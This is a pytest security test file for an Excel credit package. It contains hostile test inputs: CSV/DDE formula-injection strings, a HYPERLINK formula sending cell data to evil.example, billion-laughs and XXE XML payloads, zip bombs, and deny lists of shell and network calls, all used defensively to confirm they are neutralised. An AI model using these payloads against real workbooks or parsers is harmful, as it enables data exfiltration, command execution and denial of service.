"""Security (issue 6): text stays text, XML is parsed safely, archives are bounded, the
add-in runs only fixed entry points, and nothing in the package talks to the network.

Static checks read the package's source (Python AST, VBA modules of the sources and of the
committed add-in); runtime checks run a full refresh of a workbook full of hostile names.
"""

from __future__ import annotations

import ast
import io
import re
import socket
import time
import zipfile
from pathlib import Path
from typing import Any

import pytest
import xlsxwriter
from lxml import etree

from xlcredit import macros
from xlcredit.cli import main
from xlcredit.engine.errors import WorkbookError
from xlcredit.workbook import FileWorkbook, xlsx_parts
from xlcredit.workbook.templates import build_template

ROOT = Path(__file__).resolve().parents[1]
PACKAGE = ROOT / "xlcredit"
SOURCES = sorted([*PACKAGE.rglob("*.py"), *(ROOT / "udfs").rglob("*.py")])
M = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"

#: Names a user might paste: formula injection ("CSV injection") and DDE payloads.
HOSTILE = ["=cmd|' /C calc'!A0", "+SUM(1,2)*cmd|' /C notepad'!A1", "-2+3+cmd|' /C x'!A0",
           "@SUM(1+1)*cmd|' /C x'!A0", '=HYPERLINK("http://evil.example/?"&A1,"Click")',
           "=WEBSERVICE(\"http://evil.example\")", "\t=1+1", "\r=1+1", "＝1+1"]


def _hostile_book(path: Path) -> Path:
    wb = xlsxwriter.Workbook(str(path), {"strings_to_formulas": False, "strings_to_numbers": False})
    date = wb.add_format({"num_format": "yyyy-mm-dd"})
    buyers = wb.add_worksheet("Buyers")
    buyers.add_table(0, 0, len(HOSTILE), 2, {"name": "tblBuyers", "columns": [
        {"header": "Buyer ID"}, {"header": "Name"}, {"header": "Revenue"}]})
    invoices = wb.add_worksheet("Invoices")
    invoices.add_table(0, 0, len(HOSTILE), 4, {"name": "tblInvoices", "columns": [
        {"header": "Invoice no"}, {"header": "Buyer ID"}, {"header": "Amount"},
        {"header": "Due date"}, {"header": "Notes"}]})
    for i, text in enumerate(HOSTILE, start=1):
        buyers.write_string(i, 0, text)  # the ID itself is hostile: it is copied everywhere
        buyers.write_string(i, 1, text)
        buyers.write_number(i, 2, 1e6)
        invoices.write_string(i, 0, text + f"#{i}")
        invoices.write_string(i, 1, text)
        invoices.write_number(i, 2, 1000.0 * i)
        invoices.write_datetime(i, 3, __import__("datetime").datetime(2026, 8, i), date)
        invoices.write_string(i, 4, text)
    wb.close()
    return path


@pytest.fixture(scope="module")
def refreshed(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = _hostile_book(tmp_path_factory.mktemp("hostile") / "hostile.xlsx")
    out, err = io.StringIO(), io.StringIO()
    assert main(["refresh", str(path), "--as-of", "2026-11-30"], out=out, err=err) == 0, err.getvalue()
    return path


def _sheets(path: Path) -> dict[str, etree._Element]:
    with zipfile.ZipFile(path) as z:
        return {n: etree.fromstring(z.read(n)) for n in z.namelist()
                if n.startswith("xl/worksheets/") and n.endswith(".xml")}


# --------------------------------------------------------------------------- text stays text
def test_hostile_names_are_written_as_text_never_formulas(refreshed: Path) -> None:
    found = 0
    for part, root in _sheets(refreshed).items():
        for cell in root.iter(f"{M}c"):
            formula = cell.find(f"{M}f")
            text = "".join(cell.itertext())
            if formula is not None:
                assert not any(h.lstrip("\t\r=+-@＝")[:6] in (formula.text or "") for h in HOSTILE), (
                    part, cell.get("r"), formula.text)
            if any(text.startswith(h[:8]) for h in HOSTILE):
                found += 1
                assert cell.get("t") in ("inlineStr", "s", "str"), (part, cell.get("r"))
                assert formula is None, (part, cell.get("r"))
    # the names reached the generated sheets (Aging, Collections, Score history, Problems...)
    assert found > 3 * len(HOSTILE), found


def test_generated_sheets_hold_no_external_links_or_dde(refreshed: Path) -> None:
    with zipfile.ZipFile(refreshed) as z:
        names = z.namelist()
        rels = b"".join(z.read(n) for n in names if n.endswith(".rels"))
    assert not any(n.startswith("xl/externalLinks/") for n in names)
    assert b'TargetMode="External"' not in rels
    assert b"ddeLink" not in b"".join(zipfile.ZipFile(refreshed).read(n) for n in names)


# --------------------------------------------------------------------------- XML and archives
def _calls(tree: ast.AST) -> list[tuple[str, int]]:
    out = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            func = node.func
            name = func.attr if isinstance(func, ast.Attribute) else getattr(func, "id", "")
            base = func.value if isinstance(func, ast.Attribute) else None
            prefix = getattr(base, "id", getattr(base, "attr", "")) if base is not None else ""
            out.append((f"{prefix}.{name}" if prefix else name, node.lineno))
    return out


#: Where XML may be parsed, and why that is safe.
XML_PARSERS = {
    "xlcredit/workbook/xlsx_parts.py": "the one parser of file content (no DTD, no entities)",
    "xlcredit/workbook/styles.py": "a constant minimal styles part written by xlcredit",
    "xlcredit/workbook/files.py": "conditional-format XML xlcredit renders itself",
    "xlcredit/workbook/excel.py": "conditional-format XML xlcredit renders itself",
}
PARSE_CALLS = {"etree.fromstring", "etree.parse", "etree.XML", "etree.iterparse", "ET.fromstring",
               "ET.parse", "ElementTree.parse", "minidom.parse", "minidom.parseString",
               "sax.parse", "sax.parseString", "expat.ParserCreate", "pulldom.parse"}


def test_xml_is_parsed_only_where_it_is_safe() -> None:
    found = {}
    for path in SOURCES:
        rel = path.relative_to(ROOT).as_posix()
        for name, line in _calls(ast.parse(path.read_text(encoding="utf-8"))):
            if name in PARSE_CALLS:
                found.setdefault(rel, []).append((name, line))
    assert set(found) <= set(XML_PARSERS), found
    source = (PACKAGE / "workbook" / "xlsx_parts.py").read_text(encoding="utf-8")
    assert "resolve_entities=False" in source and "no_network=True" in source
    assert "load_dtd=False" in source


def test_billion_laughs_after_a_long_comment_is_refused_fast(tmp_path: Path) -> None:
    """A DTD placed after 5 KB of comment (past the quick look at the head of a part)."""
    entities = '<!ENTITY a "ha">' + "".join(
        f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9))
    payload = (f'<?xml version="1.0"?><!--{"x" * 5000}--><!DOCTYPE workbook [{entities}]>'
               '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
               "<sheets><sheet name=\"&j;\" sheetId=\"1\"/></sheets></workbook>").encode()
    started = time.perf_counter()
    with pytest.raises(WorkbookError, match=r"DTD|amplification"):  # lxml's own guard may come first
        xlsx_parts.parse_xml(payload, "xl/workbook.xml")
    assert time.perf_counter() - started < 1


def test_external_entity_is_never_read(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET", encoding="utf-8")
    payload = (f'<?xml version="1.0"?><!--{"x" * 5000}--><!DOCTYPE a [<!ENTITY x SYSTEM '
               f'"file://{secret}">]><a>&x;</a>').encode()
    with pytest.raises(WorkbookError) as exc:
        xlsx_parts.parse_xml(payload, "x.xml")
    assert "TOP-SECRET" not in str(exc.value)


def test_user_archives_are_opened_only_through_the_bounded_reader() -> None:
    """Every zip a user supplies goes through xlsx_parts.Package (sizes, ratio and part count
    checked from the directory before inflating); python-calamine opens the same file only
    after that check, in the file adapter."""
    zips = {}
    calamine = {}
    for path in SOURCES:
        rel = path.relative_to(ROOT).as_posix()
        text = path.read_text(encoding="utf-8")
        if "ZipFile(" in text and "ZipFile(stream, \"w\"" not in text:
            zips[rel] = text.count("ZipFile(")
        if "CalamineWorkbook.from_" in text:
            calamine[rel] = text.count("CalamineWorkbook.from_")
    # the add-in builder reads the pinned xlwings template (hash checked); doctor reads the
    # installed add-in; neither reads a user's workbook
    assert set(zips) <= {"xlcredit/workbook/xlsx_parts.py", "xlcredit/excel/addin/build.py",
                         "xlcredit/excel/addin/doctor.py"}, zips
    assert set(calamine) == {"xlcredit/workbook/files.py"}
    files = (PACKAGE / "workbook" / "files.py").read_text(encoding="utf-8")
    assert files.index("Package.from_path") < files.index("CalamineWorkbook.from_path")


def test_zip_that_lies_about_its_sizes_is_refused(tmp_path: Path) -> None:
    """A bomb whose directory declares a tiny size: the reader stops at the declared size and
    the CRC check fails, so nothing larger than declared is ever inflated."""
    path = tmp_path / "liar.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/big.xml", bytes(50 * 1024**2))
    data = bytearray(path.read_bytes())
    real = (50 * 1024**2).to_bytes(4, "little")
    fake = (100).to_bytes(4, "little")
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = 0
        while (start := data.find(signature, start)) >= 0:
            if data[start + offset : start + offset + 4] == real:
                data[start + offset : start + offset + 4] = fake
            start += 4
    path.write_bytes(bytes(data))
    started = time.perf_counter()
    with pytest.raises(WorkbookError, match="damaged"):
        FileWorkbook.open(path)
    assert time.perf_counter() - started < 2


def test_too_many_parts_are_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(xlsx_parts, "MAX_PARTS", 50)
    path = tmp_path / "parts.xlsx"
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        for i in range(60):
            z.writestr(f"xl/media/p{i}.bin", b"x")
    with pytest.raises(WorkbookError, match="parts"):
        FileWorkbook.open(path)


def test_bomb_inside_a_sheet_is_refused_before_calamine(tmp_path: Path,
                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    # limits scaled down with the bomb (deflate tops out near 1030:1 on one layer)
    monkeypatch.setattr(xlsx_parts, "RATIO_CHECK_BYTES", 1024**2)
    monkeypatch.setattr(xlsx_parts, "MAX_RATIO", 100)
    path = build_template(tmp_path / "book.xlsx")
    with zipfile.ZipFile(path) as z:
        parts = {n: z.read(n) for n in z.namelist()}
    sheet = parts["xl/worksheets/sheet1.xml"]
    parts["xl/worksheets/sheet1.xml"] = sheet.replace(b"</worksheet>", b"<!--" + b" " * 8 * 1024**2
                                                      + b"--></worksheet>")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for n, d in parts.items():
            z.writestr(n, d)

    def never(*args: Any, **kwargs: Any) -> Any:
        raise AssertionError("calamine must not open a refused file")

    from xlcredit.workbook import files

    monkeypatch.setattr(files.CalamineWorkbook, "from_path", never)
    with pytest.raises(WorkbookError, match="zip bomb"), FileWorkbook.open(path) as book:
        book.read_table("tblBuyers")


# --------------------------------------------------------------------------- the add-in
ENTRY = re.compile(r"^import xlcredit\.macros; xlcredit\.macros\.(ribbon_[a-z_]+)\(\)$")


def _vba_sources() -> dict[str, str]:
    sources = {p.name: p.read_text(encoding="utf-8", errors="replace")
               for p in (PACKAGE / "excel" / "addin" / "vba").iterdir() if p.is_file()}
    xlam = ROOT / "workbooks" / "xlcredit.xlam"
    if xlam.exists():
        from oletools.olevba import VBA_Parser

        parser = VBA_Parser(str(xlam))
        try:
            for _, _, name, code in parser.extract_macros():
                sources[f"xlcredit.xlam:{name}"] = code
        finally:
            parser.close()
    return sources


def test_runpython_calls_only_fixed_entry_points() -> None:
    """Every RunPython of our modules (sources and the committed .xlam) takes one literal
    string naming a fixed ribbon entry point of xlcredit.macros, which takes no argument:
    nothing from a cell or the workbook is ever passed to Python as code."""
    import inspect

    calls = []
    for name, code in _vba_sources().items():
        if name.endswith(("xlwings.bas", "Dictionary.cls")):
            continue  # the xlwings runtime defines RunPython itself (pinned, hash checked)
        for line in code.splitlines():
            stripped = line.strip()
            if stripped.startswith("'") or "RunPython" not in stripped:
                continue
            m = re.fullmatch(r'RunPython\s+"([^"]*)"', stripped)
            assert m, f"{name}: RunPython must take one literal string: {stripped!r}"
            calls.append((name, m.group(1)))
    assert calls, "no RunPython call found"
    for name, command in calls:
        entry = ENTRY.fullmatch(command)
        assert entry, f"{name}: {command!r} is not a fixed xlcredit.macros entry point"
        func = getattr(macros, entry.group(1))
        assert not inspect.signature(func).parameters
    if (ROOT / "workbooks" / "xlcredit.xlam").exists():
        assert any(n.startswith("xlcredit.xlam:") for n, _ in calls)


def test_vba_runs_no_shell_and_evaluates_nothing() -> None:
    for name, code in _vba_sources().items():
        if not name.startswith(("xlcredit_", "ThisWorkbook", "xlcredit.xlam:xlcredit",
                                "xlcredit.xlam:ThisWorkbook")):
            continue  # the xlwings runtime module is xlwings' own (pinned, hash checked)
        body = "\n".join(line for line in code.splitlines() if not line.strip().startswith("'"))
        for word in ("Shell", "WScript", "Evaluate(", "ExecuteExcel4Macro", "Kill ", "URLDownload",
                     "XMLHTTP", "Application.Run"):
            assert word not in body, f"{name} uses {word}"


# --------------------------------------------------------------------------- no network
NETWORK_MODULES = {"socket", "ssl", "urllib", "urllib2", "urllib3", "requests", "httpx", "http",
                   "aiohttp", "ftplib", "smtplib", "poplib", "imaplib", "telnetlib", "xmlrpc",
                   "websocket", "websockets", "paramiko", "asyncio", "socketserver", "webbrowser"}


def test_no_network_imports_in_the_package() -> None:
    """Only safe_save imports socket, and only to call socket.gethostname() (the name of this
    computer, written in the lock file): no connection is ever made."""
    found: dict[str, set[str]] = {}
    for path in SOURCES:
        tree = ast.parse(path.read_text(encoding="utf-8"))
        rel = path.relative_to(ROOT).as_posix()
        for node in ast.walk(tree):
            names: list[str] = []
            if isinstance(node, ast.Import):
                names = [alias.name for alias in node.names]
            elif isinstance(node, ast.ImportFrom) and node.module and not node.level:
                names = [node.module]
            for name in names:
                if name.split(".")[0] in NETWORK_MODULES:
                    found.setdefault(rel, set()).add(name)
            if isinstance(node, ast.Attribute) and getattr(node.value, "id", "") == "socket":
                assert node.attr == "gethostname", f"{rel}: socket.{node.attr}"
    allowed = {"xlcredit/workbook/safe_save.py": {"socket"}}
    assert all(rel in allowed and names <= allowed[rel] for rel, names in found.items()), found
    text = "\n".join(p.read_text(encoding="utf-8") for p in SOURCES)
    for call in ("urlopen(", "create_connection(", "getaddrinfo(", "HTTPConnection("):
        assert call not in text


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    attempts: list[str] = []

    def refuse(name: str) -> Any:
        def blocked(*args: Any, **kwargs: Any) -> Any:
            attempts.append(name)
            raise OSError(f"network access attempted: socket.{name}")
        return blocked

    for name in ("socket", "create_connection", "getaddrinfo", "gethostbyname",
                 "create_server", "socketpair"):
        monkeypatch.setattr(socket, name, refuse(name))
    return attempts


def test_full_refresh_with_the_network_cut(tmp_path: Path, no_network: list[str]) -> None:
    out, err = io.StringIO(), io.StringIO()
    path = tmp_path / "book.xlsx"
    assert main(["new", str(path), "--sample", "30"], out=out, err=err) == 0, err.getvalue()
    assert main(["refresh", str(path), "--as-of", "2026-11-30"], out=out, err=err) == 0, err.getvalue()
    assert main(["demo", str(tmp_path / "demo"), "--buyers", "20"], out=out, err=err) == 0, err.getvalue()
    with FileWorkbook.open(path) as book:
        macros.build_payment_plan(book, book.read_table("tblBuyers").rows[0][0], installments=3)
        book.save()
    assert no_network == []
